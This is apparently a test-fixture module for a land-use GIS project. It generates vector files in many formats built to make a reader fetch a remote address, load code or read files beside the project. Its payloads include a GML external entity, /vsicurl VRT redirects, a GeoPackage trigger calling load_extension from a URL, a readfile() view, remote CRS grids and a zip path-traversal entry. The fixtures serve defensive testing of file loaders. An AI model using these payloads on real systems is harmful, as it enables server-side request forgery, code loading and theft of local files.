"""Vector files that would have a reader fetch an address, run code, or read files elsewhere.

Each is a layer of land-use classes over the ground of the small projects, as far as it goes: beside
the folder lies a ``secret`` layer of every format that one of them points to.
"""

from __future__ import annotations

import json
import shutil
import sqlite3
import struct
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import geopandas as gpd
import pyarrow.parquet as pq
import pyogrio

from tests.factories import square

Write = Callable[[Path, str], Path]
_DRIVERS = {".tab": "MapInfo File", ".mif": "MapInfo File", ".gdb": "OpenFileGDB"}


def layer(path: Path) -> Path:
    """Two squares of perennial crops."""
    squares = [square(100, 100, 100, 100), square(1100, 1100, 100, 100)]
    frame = gpd.GeoDataFrame({"code": ["CLN", "CLN"]}, geometry=squares, crs=9215)
    frame = frame.to_crs(4326) if path.suffix == ".geojson" else frame
    pyogrio.write_dataframe(frame, path, driver=_DRIVERS.get(path.suffix), encoding="UTF-8")
    return path


def write_secrets(folder: Path) -> list[Path]:
    """Layers beside the project that it does not name."""
    for ending in (".shp", ".tab", ".gpkg", ".geojson", ".dbf", ".prj", ".csv"):
        if ending in (".shp", ".tab", ".gpkg", ".geojson"):
            layer(folder / f"secret{ending}")
    (folder / "secret.csv").write_text("code,official_area_ha\n06148,1\n", "utf-8")
    (folder / "secret.gsb").write_bytes(b"NUM_OREC" + struct.pack("<ii", 11, 0) + bytes(2000))
    (folder / "secret.yaml").write_text("plan: x\n", "utf-8")
    return sorted(folder.glob("secret.*"))


def _text(name: str, text: str) -> Write:
    def write(folder: Path, address: str) -> Path:
        path = folder / name
        path.write_text(_filled(text, folder, address), "utf-8")
        return path

    return write


def _filled(text: str, folder: Path, address: str) -> str:
    """Text with the address and the place of the secrets put in."""
    return text.replace("{http}", address).replace("{beside}", folder.parent.as_posix())


def _geojson(crs: str, *, before: str = "") -> Write:
    def write(folder: Path, address: str) -> Path:
        path = layer(folder / "a.geojson")
        whole = json.loads(path.read_text("utf-8"))
        whole.pop("crs", None)
        rest = json.dumps(whole)[1:]
        path.write_text("{" + before + _filled(crs, folder, address) + "," + rest, "utf-8")
        return path

    return write


def _shapefile(ending: str, text: str) -> Write:
    def write(folder: Path, address: str) -> Path:
        path = layer(folder / "a.shp")
        content = _filled(text, folder, address)
        path.with_suffix(ending).write_text(content, "utf-8")
        return path

    return write


def _geopackage(*statements: str) -> Write:
    def write(folder: Path, address: str) -> Path:
        path = layer(folder / "a.gpkg")
        with closing(sqlite3.connect(path)) as database:
            for (name,) in database.execute(
                "SELECT name FROM sqlite_master WHERE type = 'trigger'"
            ).fetchall():
                database.execute(f'DROP TRIGGER "{name}"')
            database.execute("PRAGMA writable_schema = ON")
            for statement in statements:
                database.execute(_filled(statement, folder, address))
            database.commit()
        return path

    return write


def _schema(name: str, sql: str, kind: str = "table") -> str:
    """Statement that enters an object into the schema without creating it."""
    quoted = sql.replace("'", "''")
    start = "INSERT INTO sqlite_master VALUES"
    return f"{start} ('{kind}', '{name}', '{name}', 0, '{quoted}')"


def _seamless(folder: Path, _address: str) -> Path:
    """Index of tables, as MapInfo's seamless tables have them, that names a table elsewhere."""
    path = folder / "a.tab"
    outline = gpd.GeoDataFrame(
        {"Table": ["../secret.tab"], "Description": ["x"]},
        geometry=[square(0, 0, 2000, 2000)], crs=9215,
    )  # fmt: skip
    pyogrio.write_dataframe(outline, path, driver="MapInfo File")
    text = path.read_text("latin-1")
    meta = 'begin_metadata\n"\\IsSeamless" = "TRUE"\n"\\IsSeamless\\AddTables" = "TRUE"\n'
    path.write_text(f"{text}\n{meta}end_metadata\n", "latin-1")
    return path


_VIEW = """!table
!version 100
Open Table "../secret" Hide
Create View a As Select code From secret
Definition Table
  Type VIEW
"""


def _tab_elsewhere(folder: Path, _address: str) -> Path:
    path = layer(folder / "a.tab")
    text = path.read_text("latin-1").replace("Type NATIVE", 'File "../secret.dat"\n  Type NATIVE')
    path.write_text(text, "latin-1")
    path.with_suffix(".dat").unlink()
    return path


def _tab_of_dbf(folder: Path, _address: str) -> Path:
    path = layer(folder / "a.tab")
    text = path.read_text("latin-1").replace("Type NATIVE", 'File "../secret.dbf"\n  Type DBF')
    path.write_text(text, "latin-1")
    path.with_suffix(".dat").unlink()
    return path


def _parquet(crs: str) -> Write:
    def write(folder: Path, address: str) -> Path:
        frame = gpd.read_file(layer(folder / "b.geojson"), engine="pyogrio").to_crs(9215)
        path = folder / "a.parquet"
        frame.to_parquet(path)
        table = pq.read_table(path)
        geo = json.loads(table.schema.metadata[b"geo"])
        told = _filled(crs, folder, address)
        geo["columns"]["geometry"]["crs"] = told
        pq.write_table(table.replace_schema_metadata({b"geo": json.dumps(geo).encode()}), path)
        (folder / "b.geojson").unlink()
        return path

    return write


def _zipped(inner: Write, *more: tuple[str, str]) -> Write:
    def write(folder: Path, address: str) -> Path:
        stage = folder / "stage"
        stage.mkdir()
        inner(stage, address)
        path = folder / "a.zip"
        with zipfile.ZipFile(path, "w") as archive:
            for item in sorted(stage.iterdir()):
                archive.write(item, item.name)
            for name, text in more:
                archive.writestr(name, _filled(text, folder, address))
        shutil.rmtree(stage)
        return path

    return write


def _hollow_shapefile(folder: Path, address: str) -> Path:
    """Parts of a Shapefile whose .shp is an OGR VRT."""
    path = layer(folder / "a.shp")
    _text("a.shp", _OGR_VRT)(folder, address)
    return path


_OGR_VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource relativeToVRT="0">/vsicurl/{http}/a.shp'
    "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
)
_OGR_VRT_LOCAL = _OGR_VRT.replace('"0">/vsicurl/{http}/a.shp', '"1">../secret.shp')
_KML = (
    '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>'
    "{http}/a.kml</href></Link></NetworkLink></kml>"
)
_GML = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "{http}/e">]><a:FeatureCollection '
    'xmlns:a="{http}/a" xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/'
    'xlink" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{http}/a '
    '{http}/a.xsd"><gml:featureMember xlink:href="{http}/m"/>&e;</a:FeatureCollection>'
)
_GPX = (
    '<?xml version="1.0"?><gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><metadata>'
    '<link href="{http}/l"/></metadata></gpx>'
)
_WFS = "<OGRWFSDataSource><URL>{http}/wfs?</URL></OGRWFSDataSource>"
_CAPABILITIES = (
    '<WFS_Capabilities version="2.0.0" xmlns="http://www.opengis.net/wfs/2.0"><FeatureTypeList/>'
    '<x href="{http}/wfs"/></WFS_Capabilities>'
)
_ESRI = (
    '{"objectIdFieldName": "OBJECTID", "geometryType": "esriGeometryPolygon", "spatialReference": '
    '{"wkt": "{http}/crs"}, "fields": [{"name": "code", "type": "esriFieldTypeString"}], "features"'
    ': [], "exceededTransferLimit": true, "serviceUrl": "{http}/arcgis/query"}'
)
_TOPOJSON = (
    '{"type": "Topology", "crs": {"type": "link", "properties": {"href": "{http}/crs"}}, "objects":'
    ' {"a": {"type": "GeometryCollection", "geometries": []}}, "arcs": []}'
)
_OAPIF = (
    '{"links": [{"rel": "next", "href": "{http}/next"}, {"rel": "data", "href": "{http}/c"}],'
    ' "collections": [{"id": "a", "links": [{"rel": "items", "href": "{http}/i"}]}]}'
)
_STAC = (
    '{"type": "FeatureCollection", "stac_version": "1.0.0", "features": [], "links": [{"rel": '
    '"next", "href": "{http}/next"}]}'
)
_PLANET = '{"type": "PLScenes", "_links": {"_self": "{http}/p"}, "features": []}'
_TILES = '{"tilejson": "3.0.0", "tiles": ["{http}/{z}/{x}/{y}.pbf"], "vector_layers": []}'
_LINK = '"crs": {"type": "link", "properties": {"href": "{http}/crs", "type": "proj4"}}'
_NADGRIDS = "+proj=longlat +ellps=krass +nadgrids={http}/grid.tif,{beside}/secret.gsb +no_defs"
_WKT_GRIDS = (
    'GEOGCS["a",DATUM["b",SPHEROID["c",6378245,298.3],EXTENSION["PROJ4_GRIDS",'
    '"{http}/grid.tif,{beside}/secret.gsb"]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
)

#: Name → writes the file to a folder, given an address, and says where it is.
VECTORS: dict[str, Write] = {
    "GeoJSON, linked CRS": _geojson(_LINK),
    "GeoJSON, escaped key": _geojson(_LINK.replace('"crs"', '"\\u0063r\\u0073"')),
    "GeoJSON, escaped type": _geojson(_LINK.replace('"link"', '"l\\u0069nk"')),
    "GeoJSON, type url": _geojson(_LINK.replace('"link"', '"url"').replace("href", "url")),
    "GeoJSON, type URL": _geojson(_LINK.replace('"link"', '"URL"').replace("href", "url")),
    "GeoJSON, key in capitals": _geojson(_LINK.replace('"crs"', '"CRS"')),
    "GeoJSON, CRS after 64 KiB": _geojson(_LINK, before=f'"x": "{"y" * 70_000}",'),
    "GeoJSON, link before name": _geojson(
        '"crs": {"type": "link", "type": "name", "properties": {"href": "{http}/c", "name": "x"}}'
    ),
    "GeoJSON, two CRSs": _geojson(
        '"crs": {"type": "name", "properties": {"name": "EPSG:4326"}},' + _LINK
    ),
    "GeoJSON, name that is an address": _geojson(
        '"crs": {"type": "name", "properties": {"name": "{http}/crs"}}'
    ),
    "GeoJSON, name that is a local file": _geojson(
        '"crs": {"type": "name", "properties": {"name": "{beside}/secret.prj"}}'
    ),
    "OGR VRT as .geojson": _text("a.geojson", _OGR_VRT),
    "OGR VRT as .gpkg": _text("a.gpkg", _OGR_VRT),
    "OGR VRT as .shp": _hollow_shapefile,
    "OGR VRT as .tab": _text("a.tab", _OGR_VRT),
    "OGR VRT as .mif": _text("a.mif", _OGR_VRT),
    "OGR VRT as .fgb": _text("a.fgb", _OGR_VRT),
    "OGR VRT after a head of .tab": _text("a.tab", f"!table\n!version 300\n{_OGR_VRT}"),
    "OGR VRT after a head of .mif": _text("a.mif", f"Version 300\n{_OGR_VRT}"),
    "OGR VRT of a file beside": _text("a.geojson", _OGR_VRT_LOCAL),
    "KML as .geojson": _text("a.geojson", _KML),
    "KML as .gpkg": _text("a.gpkg", _KML),
    "GML with entities and links": _text("a.geojson", _GML),
    "GML as .gpkg": _text("a.gpkg", _GML),
    "GPX as .json": _text("a.json", _GPX),
    "WFS as .json": _text("a.json", _WFS),
    "WFS capabilities as .gpkg": _text("a.gpkg", _CAPABILITIES),
    "ESRI JSON": _text("a.json", _ESRI),
    "TopoJSON": _text("a.json", _TOPOJSON),
    "OGC API features": _text("a.json", _OAPIF),
    "STAC as .json": _text("a.json", _STAC),
    "Planet as .json": _text("a.json", _PLANET),
    "TileJSON": _text("a.json", _TILES),
    "PMTiles as .fgb": lambda folder, _http: _bytes(folder / "a.fgb", b"PMTiles\x03" + bytes(200)),
    "GeoPackage with a trigger": _geopackage(
        "CREATE TRIGGER t AFTER INSERT ON a BEGIN SELECT load_extension('{http}/x'); END"
    ),
    "GeoPackage with a virtual table": _geopackage(
        _schema("v", "CREATE VIRTUAL TABLE v USING VirtualOGR('/vsicurl/{http}/a.shp')"),
        "UPDATE gpkg_contents SET table_name = 'v'",
        "UPDATE gpkg_geometry_columns SET table_name = 'v'",
    ),
    "GeoPackage of a view": _geopackage(
        _schema("w", "CREATE VIEW w AS SELECT fid, readfile('{beside}/secret.csv') code, "
                "geom FROM a", "view"),
        "UPDATE gpkg_contents SET table_name = 'w'",
        "UPDATE gpkg_geometry_columns SET table_name = 'w'",
    ),
    "GeoPackage, CRS that is an address": _geopackage(
        "UPDATE gpkg_spatial_ref_sys SET definition = '{http}/crs' WHERE srs_id = 9215",
        "UPDATE gpkg_spatial_ref_sys SET organization = '{http}/crs' WHERE srs_id = 9215",
    ),
    "GeoPackage, CRS of grids elsewhere": _geopackage(
        "UPDATE gpkg_spatial_ref_sys SET organization = 'x' WHERE srs_id = 9215",
        "UPDATE gpkg_spatial_ref_sys SET definition = 'GRIDS' WHERE srs_id = 9215".replace(
            "GRIDS", _WKT_GRIDS
        ),
    ),
    "Shapefile, .prj that is an address": _shapefile(".prj", "{http}/crs"),
    "Shapefile, .prj that is a file": _shapefile(".prj", "{beside}/secret.prj"),
    "Shapefile, .prj of grids elsewhere": _shapefile(".prj", _WKT_GRIDS),
    "Shapefile, .cpg that is an address": _shapefile(".cpg", "{http}/cpg"),
    "Shapefile with a style elsewhere": _shapefile(".qml", '<qgis><x href="{http}/s"/></qgis>'),
    "Shapefile with metadata elsewhere": _shapefile(".shp.xml", _GML),
    "MapInfo, seamless": _seamless,
    "MapInfo, view of a table elsewhere": _text("a.tab", _VIEW),
    "MapInfo, data elsewhere": _tab_elsewhere,
    "MapInfo, dBase elsewhere": _tab_of_dbf,
    "GeoParquet, CRS that is an address": _parquet("{http}/crs"),
    "GeoParquet, CRS of grids elsewhere": _parquet(_NADGRIDS),
    "zip with a linked CRS": _zipped(_geojson(_LINK)),
    "zip with a VRT beside": _zipped(_geojson('"x": 1'), ("a.vrt", _OGR_VRT)),
    "zip that leaves its folder": _zipped(_geojson('"x": 1'), ("../secret.geojson", "{}")),
}  # fmt: skip


def _bytes(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path
